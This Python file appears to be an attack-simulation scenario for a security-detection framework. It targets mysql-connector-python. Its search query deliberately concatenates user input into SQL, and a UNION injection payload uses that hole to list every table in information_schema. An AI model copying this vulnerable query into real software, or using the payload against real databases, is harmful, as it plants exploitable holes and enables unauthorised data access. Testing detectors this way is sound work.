"""F1: an injected UNION tells the names of all tables: the first step of every tool."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedConnector, told


class CatalogueInjected(AbusedConnector):
    """On mysql-connector-python: a page that writes what its visitor searches for into the statement."""

    code = "F1"
    attack = "reads the names of all tables through a UNION that a search field let in"
    reference = "https://attack.mitre.org/techniques/T1213/006/"
    rule = "query-attack"

    def work(self) -> None:
        """Searches for ordinary names."""
        for name in ("customer 1", "customer 2"):
            self._search(name)

    def meet(self) -> object:
        """Searches for what the attacker typed."""
        return self._search("nobody' UNION SELECT 1, table_schema, table_name FROM information_schema.tables -- ")

    def _search(self, name: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(f"SELECT id, customer, total FROM orders WHERE customer = '{name}' ORDER BY id")  # the hole
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The name of the table of accounts came back."""
        del service
        return "accounts" in str(got)
